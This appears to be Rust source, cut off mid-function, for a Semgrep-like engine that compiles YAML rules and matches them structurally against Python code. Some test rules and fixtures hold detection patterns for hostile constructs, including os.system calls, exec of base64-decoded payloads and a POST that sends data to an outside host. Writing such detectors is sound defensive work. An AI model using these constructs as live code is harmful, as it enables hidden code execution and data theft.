/// Pattern-text re-parses performed by this module since process start.
static REPARSES: AtomicU64 = AtomicU64::new(0);

/// How many times pattern text has been re-parsed on a match path. The
/// compiled matcher never adds to this; only the oracle does.
pub fn pattern_reparse_count() -> u64 {
    REPARSES.load(Ordering::Relaxed)
}

/// Matches one rule against a module by re-parsing each pattern leaf —
/// the seed implementation, preserved as the equivalence oracle.
pub fn match_module(rule: &SemgrepRule, module: &Module) -> Vec<Finding> {
    let lines = eval_op(&rule.pattern, module);
    let mut lines: Vec<usize> = lines.into_iter().collect();
    lines.sort_unstable();
    lines.dedup();
    lines
        .into_iter()
        .map(|line| Finding {
            rule_id: rule.id.clone(),
            line,
            message: rule.message.clone(),
            severity: rule.severity,
        })
        .collect()
}

/// Evaluates a pattern-operator tree to the set of matching lines.
fn eval_op(op: &PatternOp, module: &Module) -> Vec<usize> {
    match op {
        PatternOp::Pattern(text) => pattern_lines(text, module),
        PatternOp::Either(children) => {
            let mut out = Vec::new();
            for c in children {
                out.extend(eval_op(c, module));
            }
            out
        }
        PatternOp::All(children) => {
            let mut result: Option<Vec<usize>> = None;
            for c in children {
                match c {
                    PatternOp::Not(inner) => {
                        if !eval_op(inner, module).is_empty() {
                            return Vec::new();
                        }
                    }
                    other => {
                        let lines = eval_op(other, module);
                        if lines.is_empty() {
                            return Vec::new();
                        }
                        if result.is_none() {
                            result = Some(lines);
                        }
                    }
                }
            }
            result.unwrap_or_default()
        }
        PatternOp::Not(inner) => {
            let _ = eval_op(inner, module);
            Vec::new()
        }
    }
}

fn pattern_lines(pattern: &str, module: &Module) -> Vec<usize> {
    let encoded = encode_metavars(pattern);
    REPARSES.fetch_add(1, Ordering::Relaxed);
    let pat_module = pysrc::parse_module(&encoded);
    let Some(pat_stmt) = pat_module.body.first() else {
        return Vec::new();
    };
    let mut out = Vec::new();
    walk_statements(&module.body, &mut |stmt| {
        if stmt_matches(pat_stmt, stmt) {
            out.push(stmt.line());
        }
    });
    out
}

/// Serializes unit tests that assert on the process-global reparse
/// counter (in-crate tests run in parallel threads).
#[cfg(test)]
pub(crate) static TEST_COUNTER_LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());

#[cfg(test)]
mod tests {
    use crate::rule::compile;

    #[test]
    fn oracle_agrees_with_compiled_matcher_on_basics() {
        let _guard = super::TEST_COUNTER_LOCK.lock().expect("counter lock");
        let rules = compile(
            r#"
rules:
  - id: a
    languages: [python]
    message: m
    pattern: os.system($X)
  - id: b
    languages: [python]
    message: m
    patterns:
      - pattern: open($F, 'w')
      - pattern-not: open('log.txt', 'w')
"#,
        )
        .expect("compile");
        for src in [
            "os.system('id')\n",
            "open(p, 'w')\n",
            "open('log.txt', 'w')\n",
            "print('clean')\n",
        ] {
            let module = pysrc::parse_module(src);
            for rule in &rules.rules {
                assert_eq!(
                    super::match_module(rule, &module),
                    crate::match_module(rule, &module),
                    "divergence on {src:?}"
                );
            }
        }
    }
}

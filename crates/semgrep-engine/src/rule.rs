//! Semgrep rule schema and compilation.

use crate::error::SemgrepError;
use crate::matcher::CompiledPattern;
use crate::yaml::{self, Yaml};

/// Semgrep severity levels.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Severity {
    /// Informational finding.
    Info,
    /// Suspicious but not certain.
    Warning,
    /// High-confidence problem.
    Error,
}

impl Severity {
    fn parse(text: &str, line: usize) -> Result<Self, SemgrepError> {
        match text {
            "INFO" => Ok(Severity::Info),
            "WARNING" => Ok(Severity::Warning),
            "ERROR" => Ok(Severity::Error),
            other => Err(SemgrepError::new(
                line,
                format!("invalid severity `{other}` (expected INFO, WARNING or ERROR)"),
            )),
        }
    }
}

/// A pattern operator tree.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PatternOp {
    /// A single source pattern.
    Pattern(String),
    /// `patterns:` — all children must match (conjunction).
    All(Vec<PatternOp>),
    /// `pattern-either:` — any child may match (disjunction).
    Either(Vec<PatternOp>),
    /// `pattern-not:` — child must not match anywhere in the file.
    Not(Box<PatternOp>),
}

impl PatternOp {
    /// All positive leaf patterns (ignoring `pattern-not` subtrees) —
    /// used by taxonomy classification and the refiner.
    pub fn positive_leaves(&self) -> Vec<&str> {
        let mut out = Vec::new();
        self.walk_positive(&mut out);
        out
    }

    fn walk_positive<'a>(&'a self, out: &mut Vec<&'a str>) {
        match self {
            PatternOp::Pattern(p) => out.push(p),
            PatternOp::All(children) | PatternOp::Either(children) => {
                for c in children {
                    c.walk_positive(out);
                }
            }
            PatternOp::Not(_) => {}
        }
    }

    /// Literal atoms with *any-of* semantics: when `Some(atoms)` is
    /// returned, a source text containing **none** of the atoms cannot
    /// match this operator tree, so a prefilter may skip the rule.
    /// `None` means no such guarantee exists and the rule must always
    /// run.
    ///
    /// Atoms are identifier/keyword words taken from pattern text outside
    /// quoted sections (quoted content may be re-escaped differently in
    /// matching source) and excluding `$METAVAR` names. A conjunction
    /// needs any one of its children's guarantees; a disjunction needs
    /// one from *every* branch; `pattern-not` offers none.
    pub fn literal_atoms_of(op: &PatternOp) -> Option<Vec<String>> {
        match op {
            PatternOp::Pattern(text) => pattern_anchor_word(text).map(|w| vec![w]),
            PatternOp::All(children) => children
                .iter()
                .filter_map(Self::literal_atoms_of)
                // Prefer the child whose weakest atom is longest — longer
                // atoms are rarer, so the prefilter skips more packages.
                .max_by_key(|atoms| atoms.iter().map(String::len).min().unwrap_or(0)),
            PatternOp::Either(children) => {
                let mut out = Vec::new();
                for c in children {
                    out.extend(Self::literal_atoms_of(c)?);
                }
                Some(out)
            }
            PatternOp::Not(_) => None,
        }
    }
}

/// The longest identifier-like word of a pattern, skipping quoted spans
/// and `$METAVAR` references.
fn pattern_anchor_word(text: &str) -> Option<String> {
    let mut best: Option<String> = None;
    let mut word = String::new();
    let mut quote: Option<char> = None;
    let mut in_metavar = false;
    for c in text.chars() {
        if let Some(q) = quote {
            if c == q {
                quote = None;
            }
            continue;
        }
        let is_word_char = c.is_ascii_alphanumeric() || c == '_';
        if in_metavar {
            if is_word_char {
                continue;
            }
            in_metavar = false;
        }
        match c {
            '\'' | '"' => {
                quote = Some(c);
                flush_word(&mut word, &mut best);
            }
            '$' => {
                flush_word(&mut word, &mut best);
                in_metavar = true;
            }
            c if is_word_char => word.push(c),
            _ => flush_word(&mut word, &mut best),
        }
    }
    flush_word(&mut word, &mut best);
    best
}

fn flush_word(word: &mut String, best: &mut Option<String>) {
    if !word.is_empty()
        && word.chars().next().is_some_and(|c| !c.is_ascii_digit())
        && word.len() > best.as_ref().map_or(0, String::len)
    {
        *best = Some(word.clone());
    }
    word.clear();
}

/// One compiled Semgrep rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SemgrepRule {
    /// Unique rule id.
    pub id: String,
    /// Target languages (`python` required by this subset).
    pub languages: Vec<String>,
    /// Human-readable finding message.
    pub message: String,
    /// Severity level.
    pub severity: Severity,
    /// The pattern operator tree.
    pub pattern: PatternOp,
    /// Free-form metadata entries.
    pub metadata: Vec<(String, String)>,
    /// The pattern tree with every leaf pre-parsed (metavariables
    /// encoded, first statement kept as AST), built here at compile time
    /// so the scan path never re-parses pattern text.
    pub(crate) compiled: CompiledPattern,
}

/// A compiled set of Semgrep rules.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CompiledSemgrepRules {
    /// Rules in file order.
    pub rules: Vec<SemgrepRule>,
}

impl SemgrepRule {
    /// The rule's literal atoms with any-of semantics
    /// (see [`PatternOp::literal_atoms_of`]).
    pub fn literal_atoms(&self) -> Option<Vec<String>> {
        PatternOp::literal_atoms_of(&self.pattern)
    }
}

impl CompiledSemgrepRules {
    /// Number of rules.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// Returns true when the file defined no rules.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }
}

/// Parses and validates a Semgrep YAML rule file.
///
/// # Errors
///
/// YAML syntax errors, plus schema violations phrased like semgrep's CLI:
/// missing `rules`, missing `id` / `message` / `languages`, missing any
/// pattern operator, empty `patterns:` lists, unknown operator keys and
/// duplicate rule ids.
pub fn compile(source: &str) -> Result<CompiledSemgrepRules, SemgrepError> {
    let doc = yaml::parse(source)?;
    let Some(rules_node) = doc.get("rules") else {
        return Err(SemgrepError::global("missing `rules` key"));
    };
    let Some(seq) = rules_node.as_seq() else {
        return Err(SemgrepError::global("`rules` must be a sequence"));
    };
    if seq.is_empty() {
        return Err(SemgrepError::global("`rules` is empty"));
    }
    let mut rules = Vec::with_capacity(seq.len());
    let mut seen = std::collections::HashSet::new();
    for node in seq {
        let rule = compile_rule(node)?;
        if !seen.insert(rule.id.clone()) {
            return Err(SemgrepError::global(format!(
                "duplicate rule id `{}`",
                rule.id
            )));
        }
        rules.push(rule);
    }
    Ok(CompiledSemgrepRules { rules })
}

fn compile_rule(node: &Yaml) -> Result<SemgrepRule, SemgrepError> {
    let id = node
        .get("id")
        .and_then(Yaml::as_str)
        .ok_or_else(|| SemgrepError::global("rule is missing required `id` field"))?
        .to_owned();
    let message = node
        .get("message")
        .and_then(Yaml::as_str)
        .ok_or_else(|| {
            SemgrepError::global(format!("rule `{id}` is missing required `message` field"))
        })?
        .to_owned();
    let languages: Vec<String> = match node.get("languages") {
        Some(Yaml::Seq(items)) => items
            .iter()
            .filter_map(Yaml::as_str)
            .map(str::to_owned)
            .collect(),
        Some(Yaml::Str(s)) => vec![s.clone()],
        _ => {
            return Err(SemgrepError::global(format!(
                "rule `{id}` is missing required `languages` field"
            )))
        }
    };
    if languages.is_empty() {
        return Err(SemgrepError::global(format!(
            "rule `{id}` has an empty `languages` list"
        )));
    }
    for lang in &languages {
        if !matches!(lang.as_str(), "python" | "py" | "generic") {
            return Err(SemgrepError::global(format!(
                "rule `{id}`: unsupported language `{lang}`"
            )));
        }
    }
    let severity = match node.get("severity").and_then(Yaml::as_str) {
        Some(s) => Severity::parse(s, 0)?,
        None => Severity::Warning,
    };
    let pattern = compile_pattern_ops(node, &id)?;
    let metadata = match node.get("metadata") {
        Some(Yaml::Map(entries)) => entries
            .iter()
            .map(|(k, v)| (k.clone(), v.to_string()))
            .collect(),
        _ => Vec::new(),
    };
    let compiled = CompiledPattern::compile(&pattern);
    Ok(SemgrepRule {
        id,
        languages,
        message,
        severity,
        pattern,
        metadata,
        compiled,
    })
}

fn compile_pattern_ops(node: &Yaml, id: &str) -> Result<PatternOp, SemgrepError> {
    let mut found = Vec::new();
    if let Some(p) = node.get("pattern").and_then(Yaml::as_str) {
        found.push(PatternOp::Pattern(normalize_pattern(p)));
    }
    if let Some(children) = node.get("patterns") {
        found.push(PatternOp::All(compile_operator_list(children, id)?));
    }
    if let Some(children) = node.get("pattern-either") {
        found.push(PatternOp::Either(compile_operator_list(children, id)?));
    }
    match found.len() {
        0 => Err(SemgrepError::global(format!(
            "rule `{id}` must define one of `pattern`, `patterns` or `pattern-either`"
        ))),
        1 => Ok(found.pop().expect("one element")),
        _ => Ok(PatternOp::All(found)),
    }
}

fn compile_operator_list(node: &Yaml, id: &str) -> Result<Vec<PatternOp>, SemgrepError> {
    let Some(items) = node.as_seq() else {
        return Err(SemgrepError::global(format!(
            "rule `{id}`: pattern operator list must be a sequence"
        )));
    };
    if items.is_empty() {
        return Err(SemgrepError::global(format!(
            "rule `{id}`: empty pattern operator list"
        )));
    }
    let mut ops = Vec::with_capacity(items.len());
    for item in items {
        let Some(entries) = item.as_map() else {
            return Err(SemgrepError::global(format!(
                "rule `{id}`: each pattern operator must be a mapping"
            )));
        };
        for (key, value) in entries {
            match key.as_str() {
                "pattern" => {
                    let Some(text) = value.as_str() else {
                        return Err(SemgrepError::global(format!(
                            "rule `{id}`: `pattern` value must be a string"
                        )));
                    };
                    ops.push(PatternOp::Pattern(normalize_pattern(text)));
                }
                "pattern-not" => {
                    let Some(text) = value.as_str() else {
                        return Err(SemgrepError::global(format!(
                            "rule `{id}`: `pattern-not` value must be a string"
                        )));
                    };
                    ops.push(PatternOp::Not(Box::new(PatternOp::Pattern(
                        normalize_pattern(text),
                    ))));
                }
                "patterns" => ops.push(PatternOp::All(compile_operator_list(value, id)?)),
                "pattern-either" => ops.push(PatternOp::Either(compile_operator_list(value, id)?)),
                other => {
                    return Err(SemgrepError::global(format!(
                        "rule `{id}`: unknown pattern operator `{other}`"
                    )))
                }
            }
        }
    }
    Ok(ops)
}

fn normalize_pattern(text: &str) -> String {
    text.trim().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    const MINIMAL: &str = r#"
rules:
  - id: test-rule
    languages: [python]
    message: "something bad"
    severity: ERROR
    pattern: os.system($X)
"#;

    #[test]
    fn compiles_minimal_rule() {
        let rules = compile(MINIMAL).expect("compile");
        assert_eq!(rules.len(), 1);
        let r = &rules.rules[0];
        assert_eq!(r.id, "test-rule");
        assert_eq!(r.severity, Severity::Error);
        assert_eq!(r.pattern, PatternOp::Pattern("os.system($X)".into()));
    }

    #[test]
    fn patterns_conjunction() {
        let src = r#"
rules:
  - id: conj
    languages: [python]
    message: m
    patterns:
      - pattern: open($F, 'w')
      - pattern-not: open('log.txt', 'w')
"#;
        let rules = compile(src).expect("compile");
        match &rules.rules[0].pattern {
            PatternOp::All(children) => {
                assert_eq!(children.len(), 2);
                assert!(matches!(children[1], PatternOp::Not(_)));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn pattern_either_disjunction() {
        let src = r#"
rules:
  - id: disj
    languages: [python]
    message: m
    pattern-either:
      - pattern: eval($X)
      - pattern: exec($X)
"#;
        let rules = compile(src).expect("compile");
        assert!(matches!(&rules.rules[0].pattern, PatternOp::Either(c) if c.len() == 2));
    }

    #[test]
    fn default_severity_is_warning() {
        let src = "rules:\n  - id: x\n    languages: [python]\n    message: m\n    pattern: f()\n";
        let rules = compile(src).expect("compile");
        assert_eq!(rules.rules[0].severity, Severity::Warning);
    }

    #[test]
    fn metadata_collected() {
        let src = r#"
rules:
  - id: x
    languages: [python]
    message: m
    pattern: f()
    metadata:
      category: security
      subcategory: network
"#;
        let rules = compile(src).expect("compile");
        assert_eq!(rules.rules[0].metadata.len(), 2);
        assert_eq!(rules.rules[0].metadata[0].0, "category");
    }

    #[test]
    fn missing_rules_key() {
        let e = compile("other: 1\n").unwrap_err();
        assert!(e.to_string().contains("missing `rules` key"), "{e}");
    }

    #[test]
    fn missing_id() {
        let src = "rules:\n  - languages: [python]\n    message: m\n    pattern: f()\n";
        let e = compile(src).unwrap_err();
        assert!(e.to_string().contains("missing required `id`"), "{e}");
    }

    #[test]
    fn missing_message() {
        let src = "rules:\n  - id: x\n    languages: [python]\n    pattern: f()\n";
        let e = compile(src).unwrap_err();
        assert!(e.to_string().contains("missing required `message`"), "{e}");
    }

    #[test]
    fn missing_languages() {
        let src = "rules:\n  - id: x\n    message: m\n    pattern: f()\n";
        let e = compile(src).unwrap_err();
        assert!(
            e.to_string().contains("missing required `languages`"),
            "{e}"
        );
    }

    #[test]
    fn unsupported_language() {
        let src = "rules:\n  - id: x\n    languages: [cobol]\n    message: m\n    pattern: f()\n";
        let e = compile(src).unwrap_err();
        assert!(
            e.to_string().contains("unsupported language `cobol`"),
            "{e}"
        );
    }

    #[test]
    fn missing_pattern_operator() {
        let src = "rules:\n  - id: x\n    languages: [python]\n    message: m\n";
        let e = compile(src).unwrap_err();
        assert!(e.to_string().contains("must define one of"), "{e}");
    }

    #[test]
    fn invalid_severity() {
        let src = "rules:\n  - id: x\n    languages: [python]\n    message: m\n    severity: FATAL\n    pattern: f()\n";
        let e = compile(src).unwrap_err();
        assert!(e.to_string().contains("invalid severity"), "{e}");
    }

    #[test]
    fn duplicate_rule_ids() {
        let src = r#"
rules:
  - id: x
    languages: [python]
    message: m
    pattern: f()
  - id: x
    languages: [python]
    message: m
    pattern: g()
"#;
        let e = compile(src).unwrap_err();
        assert!(e.to_string().contains("duplicate rule id"), "{e}");
    }

    #[test]
    fn unknown_operator() {
        let src = r#"
rules:
  - id: x
    languages: [python]
    message: m
    patterns:
      - pattern-regexp: f.*
"#;
        let e = compile(src).unwrap_err();
        assert!(e.to_string().contains("unknown pattern operator"), "{e}");
    }

    #[test]
    fn block_scalar_pattern() {
        let src = r#"
rules:
  - id: x
    languages: [python]
    message: m
    patterns:
      - pattern: |
          $CLIENT.torrents_info(torrent_hashes=$HASH)
"#;
        let rules = compile(src).expect("compile");
        let leaves = rules.rules[0].pattern.positive_leaves();
        assert_eq!(leaves, vec!["$CLIENT.torrents_info(torrent_hashes=$HASH)"]);
    }

    #[test]
    fn literal_atoms_single_pattern() {
        let rules = compile(MINIMAL).expect("compile");
        assert_eq!(
            rules.rules[0].literal_atoms(),
            Some(vec!["system".to_owned()])
        );
    }

    #[test]
    fn literal_atoms_skip_metavariables_and_quotes() {
        assert_eq!(
            pattern_anchor_word("exec(base64.b64decode($PAYLOAD))"),
            Some("b64decode".to_owned())
        );
        assert_eq!(
            pattern_anchor_word("$X.post('https://x.test', data=$D)"),
            Some("post".to_owned())
        );
        assert_eq!(pattern_anchor_word("$A($B)"), None);
        assert_eq!(pattern_anchor_word("'only a string'"), None);
    }

    #[test]
    fn literal_atoms_either_unions_branches() {
        let src = r#"
rules:
  - id: disj
    languages: [python]
    message: m
    pattern-either:
      - pattern: eval($X)
      - pattern: exec($X)
"#;
        let rules = compile(src).expect("compile");
        let atoms = rules.rules[0].literal_atoms().expect("atoms");
        assert_eq!(atoms, vec!["eval".to_owned(), "exec".to_owned()]);
    }

    #[test]
    fn literal_atoms_either_with_opaque_branch_is_none() {
        let src = r#"
rules:
  - id: disj
    languages: [python]
    message: m
    pattern-either:
      - pattern: eval($X)
      - pattern: $A($B)
"#;
        let rules = compile(src).expect("compile");
        assert_eq!(rules.rules[0].literal_atoms(), None);
    }

    #[test]
    fn literal_atoms_conjunction_uses_any_child() {
        let src = r#"
rules:
  - id: conj
    languages: [python]
    message: m
    patterns:
      - pattern: open($F, 'w')
      - pattern-not: open('log.txt', 'w')
"#;
        let rules = compile(src).expect("compile");
        assert_eq!(
            rules.rules[0].literal_atoms(),
            Some(vec!["open".to_owned()])
        );
    }

    #[test]
    fn literal_atoms_not_only_is_none() {
        let op = PatternOp::Not(Box::new(PatternOp::Pattern("f()".into())));
        assert_eq!(PatternOp::literal_atoms_of(&op), None);
    }

    #[test]
    fn positive_leaves_skip_not() {
        let op = PatternOp::All(vec![
            PatternOp::Pattern("a()".into()),
            PatternOp::Not(Box::new(PatternOp::Pattern("b()".into()))),
        ]);
        assert_eq!(op.positive_leaves(), vec!["a()"]);
    }
}

use std::error::Error;
use std::fmt;

/// A Semgrep rule-file error (YAML syntax or schema violation).
///
/// Messages mirror semgrep's CLI phrasing so the paper's alignment agent
/// can consume them the same way it consumes yara errors.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SemgrepError {
    /// 1-based line in the YAML source, 0 when not line-specific.
    pub line: usize,
    /// Human-readable description.
    pub message: String,
}

impl SemgrepError {
    /// Creates an error pinned to `line`.
    pub fn new(line: usize, message: impl Into<String>) -> Self {
        SemgrepError {
            line,
            message: message.into(),
        }
    }

    /// Creates an error not attributable to a specific line.
    pub fn global(message: impl Into<String>) -> Self {
        SemgrepError {
            line: 0,
            message: message.into(),
        }
    }
}

impl fmt::Display for SemgrepError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.line > 0 {
            write!(f, "invalid rule file: line {}: {}", self.line, self.message)
        } else {
            write!(f, "invalid rule file: {}", self.message)
        }
    }
}

impl Error for SemgrepError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_with_line() {
        let e = SemgrepError::new(3, "could not find expected ':'");
        assert_eq!(
            e.to_string(),
            "invalid rule file: line 3: could not find expected ':'"
        );
    }

    #[test]
    fn display_global() {
        let e = SemgrepError::global("missing `rules` key");
        assert_eq!(e.to_string(), "invalid rule file: missing `rules` key");
    }
}

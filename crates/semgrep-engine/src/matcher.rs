//! Structural pattern matching over the [`pysrc`] AST.
//!
//! Supports the Semgrep features the paper's generated rules use:
//! metavariables (`$X`, bound consistently within one pattern), ellipsis
//! arguments (`f(...)`, `f($A, ...)`), keyword arguments matched by name
//! (`subprocess.Popen($CMD, shell=True)`), dotted callee paths and
//! assignment patterns (`$VAR = requests.get(...)`).
//!
//! Pattern text is parsed **once, at rule-compile time** into a
//! [`CompiledPattern`] (metavariables encoded, first statement kept as a
//! [`pysrc`] AST); the scan path never calls [`pysrc::parse_module`] on
//! pattern text. The original reparse-per-call matcher survives verbatim
//! in [`crate::reference`] as the differential oracle.

use std::collections::HashMap;

use pysrc::{Arg, Expr, Module, Stmt};

use crate::rule::{PatternOp, SemgrepRule, Severity};

/// One rule match at a source location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Matching rule id.
    pub rule_id: String,
    /// 1-based line of the matched statement.
    pub line: usize,
    /// The rule message.
    pub message: String,
    /// The rule severity.
    pub severity: Severity,
}

// ---------------------------------------------------------------------------
// Compiled patterns
// ---------------------------------------------------------------------------

/// How a pre-parsed pattern leaf is dispatched by the multi-rule matcher:
/// the structural analogue of the literal prefilter. Every variant except
/// `Always`/`Dead` names a fact that *must* hold for a statement to match
/// the leaf, so statements lacking it skip the leaf entirely.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Anchor {
    /// An identifier (call-head name, attribute, bare name) that must
    /// occur in a matching statement's expressions.
    Ident(String),
    /// A dotted module path that must occur in a matching `import`.
    ImportRoot(String),
    /// The exact module path of a `from X import ...` pattern.
    FromImportModule(String),
    /// No sound anchor exists: the leaf is tested against every statement.
    Always,
    /// The leaf can never match any statement (unparsable pattern text or
    /// a statement shape the matcher does not model).
    Dead,
}

/// One pattern leaf, pre-parsed at rule-compile time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct CompiledLeaf {
    /// The metavar-encoded pattern's first statement; `None` when the
    /// text parses to an empty module (the leaf never matches).
    pub(crate) stmt: Option<Stmt>,
    /// Dispatch anchor derived from `stmt`.
    pub(crate) anchor: Anchor,
}

/// A pattern-operator tree whose leaves are pre-parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum CompiledOp {
    /// A single pre-parsed pattern.
    Leaf(CompiledLeaf),
    /// Conjunction (`patterns:`).
    All(Vec<CompiledOp>),
    /// Disjunction (`pattern-either:`).
    Either(Vec<CompiledOp>),
    /// Negation (`pattern-not:`).
    Not(Box<CompiledOp>),
}

/// The compiled form of one rule's pattern tree, built by
/// [`crate::compile`] so that matching never re-parses pattern text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CompiledPattern {
    pub(crate) op: CompiledOp,
}

impl CompiledPattern {
    /// Pre-parses every leaf of `op`.
    pub(crate) fn compile(op: &PatternOp) -> Self {
        CompiledPattern { op: compile_op(op) }
    }
}

fn compile_op(op: &PatternOp) -> CompiledOp {
    match op {
        PatternOp::Pattern(text) => CompiledOp::Leaf(compile_leaf(text)),
        PatternOp::All(children) => CompiledOp::All(children.iter().map(compile_op).collect()),
        PatternOp::Either(children) => {
            CompiledOp::Either(children.iter().map(compile_op).collect())
        }
        PatternOp::Not(inner) => CompiledOp::Not(Box::new(compile_op(inner))),
    }
}

pub(crate) fn compile_leaf(text: &str) -> CompiledLeaf {
    let encoded = encode_metavars(text);
    let stmt = pysrc::parse_module(&encoded).body.into_iter().next();
    let anchor = anchor_of(stmt.as_ref());
    CompiledLeaf { stmt, anchor }
}

/// The dispatch anchor of a pattern statement (see [`Anchor`]). Soundness
/// contract: whenever [`stmt_matches`]`(pattern, target)` holds, the
/// anchor fact holds for `target`.
fn anchor_of(stmt: Option<&Stmt>) -> Anchor {
    let Some(stmt) = stmt else {
        return Anchor::Dead;
    };
    match stmt {
        // An expression pattern matches via a sub-expression of the
        // target; an assignment pattern requires its value to match the
        // target's value — both walk the target's expression roots.
        Stmt::Expr { value, .. } | Stmt::Assign { value, .. } => {
            expr_anchor(value).map_or(Anchor::Always, Anchor::Ident)
        }
        Stmt::Import { modules, .. } => modules
            .first()
            .map_or(Anchor::Always, |m| Anchor::ImportRoot(m.path.clone())),
        Stmt::FromImport { module, .. } => Anchor::FromImportModule(module.clone()),
        Stmt::Other { text, .. } => {
            if text.is_empty() {
                Anchor::Dead
            } else {
                Anchor::Always
            }
        }
        // `stmt_matches` has no arm for these pattern shapes: they can
        // never match any statement.
        Stmt::FunctionDef { .. }
        | Stmt::ClassDef { .. }
        | Stmt::Block { .. }
        | Stmt::Return { .. } => Anchor::Dead,
    }
}

/// The identifier any expression matching `expr` must contain, or `None`
/// when no such identifier exists (metavariable head, literal, binop, …).
fn expr_anchor(expr: &Expr) -> Option<String> {
    match expr {
        // A call pattern requires the target to be a call whose callee
        // matches the pattern's callee.
        Expr::Call { func, .. } => expr_anchor(func),
        // `expr_matches` requires the target attribute name to be equal.
        Expr::Attribute { attr, .. } => Some(attr.clone()),
        Expr::Name(n) if !is_metavar(n) => Some(n.clone()),
        _ => None,
    }
}

// ---------------------------------------------------------------------------
// Per-rule matching over compiled patterns
// ---------------------------------------------------------------------------

/// Matches one rule against a module, returning deduplicated findings.
///
/// Uses the pattern AST stored at compile time — no pattern text is
/// re-parsed. For matching *many* rules against one module in a single
/// AST pass, use [`crate::MatchSet`].
pub fn match_module(rule: &SemgrepRule, module: &Module) -> Vec<Finding> {
    let mut lines = eval_compiled(&rule.compiled.op, module);
    lines.sort_unstable();
    lines.dedup();
    lines
        .into_iter()
        .map(|line| Finding {
            rule_id: rule.id.clone(),
            line,
            message: rule.message.clone(),
            severity: rule.severity,
        })
        .collect()
}

/// Shape classification of one pattern-operator tree node: lets the
/// single shared evaluator ([`eval_tree`]) serve both the per-rule
/// [`CompiledOp`] tree and the leaf-indexed tree in
/// [`crate::MatchSet`], so the conjunction semantics live in exactly
/// one place (plus the intentionally frozen oracle copy in
/// [`crate::reference`]).
pub(crate) enum OpShape<'a, N> {
    /// A leaf, resolved to matching lines by the caller's provider.
    Leaf,
    /// Conjunction (`patterns:`).
    All(&'a [N]),
    /// Disjunction (`pattern-either:`).
    Either(&'a [N]),
    /// Negation (`pattern-not:`).
    Not(&'a N),
}

/// A pattern-operator tree evaluable by [`eval_tree`].
pub(crate) trait OpNode: Sized {
    fn shape(&self) -> OpShape<'_, Self>;
}

impl OpNode for CompiledOp {
    fn shape(&self) -> OpShape<'_, Self> {
        match self {
            CompiledOp::Leaf(_) => OpShape::Leaf,
            CompiledOp::All(children) => OpShape::All(children),
            CompiledOp::Either(children) => OpShape::Either(children),
            CompiledOp::Not(inner) => OpShape::Not(inner),
        }
    }
}

/// Evaluates a pattern-operator tree to the set of matching lines,
/// resolving leaves through `leaf_lines`.
pub(crate) fn eval_tree<N: OpNode>(node: &N, leaf_lines: &impl Fn(&N) -> Vec<usize>) -> Vec<usize> {
    match node.shape() {
        OpShape::Leaf => leaf_lines(node),
        OpShape::Either(children) => {
            let mut out = Vec::new();
            for c in children {
                out.extend(eval_tree(c, leaf_lines));
            }
            out
        }
        OpShape::All(children) => {
            // Conjunction: every positive child must match somewhere and no
            // negative child may match anywhere; findings are reported at
            // the first positive child's lines (a file-level approximation
            // of semgrep's range intersection).
            let mut result: Option<Vec<usize>> = None;
            for c in children {
                if let OpShape::Not(inner) = c.shape() {
                    if !eval_tree(inner, leaf_lines).is_empty() {
                        return Vec::new();
                    }
                } else {
                    let lines = eval_tree(c, leaf_lines);
                    if lines.is_empty() {
                        return Vec::new();
                    }
                    if result.is_none() {
                        result = Some(lines);
                    }
                }
            }
            result.unwrap_or_default()
        }
        // A top-level bare `pattern-not` (degenerate, but the LLM can
        // produce it): matches nothing on its own.
        OpShape::Not(_) => Vec::new(),
    }
}

/// Evaluates a compiled operator tree against one module.
fn eval_compiled(op: &CompiledOp, module: &Module) -> Vec<usize> {
    eval_tree(op, &|n| match n {
        CompiledOp::Leaf(leaf) => leaf_lines(leaf, module),
        _ => unreachable!("eval_tree resolves only leaf shapes"),
    })
}

/// All lines on which one pre-parsed leaf matches, in walk order.
fn leaf_lines(leaf: &CompiledLeaf, module: &Module) -> Vec<usize> {
    let Some(pat_stmt) = &leaf.stmt else {
        return Vec::new();
    };
    let mut out = Vec::new();
    walk_statements(&module.body, &mut |stmt| {
        if stmt_matches(pat_stmt, stmt) {
            out.push(stmt.line());
        }
    });
    out
}

/// Replaces `$NAME` with `__MV_NAME` so the Python parser accepts the
/// pattern text. Byte-faithful outside the rewritten metavariable
/// sigils: non-ASCII pattern content (string literals, comments) passes
/// through unchanged.
pub(crate) fn encode_metavars(pattern: &str) -> String {
    let bytes = pattern.as_bytes();
    let mut out = String::with_capacity(pattern.len() + 16);
    let mut start = 0;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'$'
            && i + 1 < bytes.len()
            && (bytes[i + 1].is_ascii_alphabetic() || bytes[i + 1] == b'_')
        {
            // `$` is ASCII, so both slice boundaries sit on char limits.
            out.push_str(&pattern[start..i]);
            out.push_str("__MV_");
            start = i + 1;
        }
        i += 1;
    }
    out.push_str(&pattern[start..]);
    out
}

pub(crate) fn is_metavar(name: &str) -> bool {
    name.starts_with("__MV_")
}

fn is_ellipsis(expr: &Expr) -> bool {
    matches!(expr, Expr::Other(t) if t == "...")
}

pub(crate) fn walk_statements<'a>(body: &'a [Stmt], f: &mut impl FnMut(&'a Stmt)) {
    for stmt in body {
        f(stmt);
        match stmt {
            Stmt::FunctionDef { body, .. }
            | Stmt::ClassDef { body, .. }
            | Stmt::Block { body, .. } => walk_statements(body, f),
            _ => {}
        }
    }
}

/// The expression roots a statement exposes to expression patterns.
pub(crate) fn for_each_expr_root<'a>(stmt: &'a Stmt, f: &mut impl FnMut(&'a Expr)) {
    match stmt {
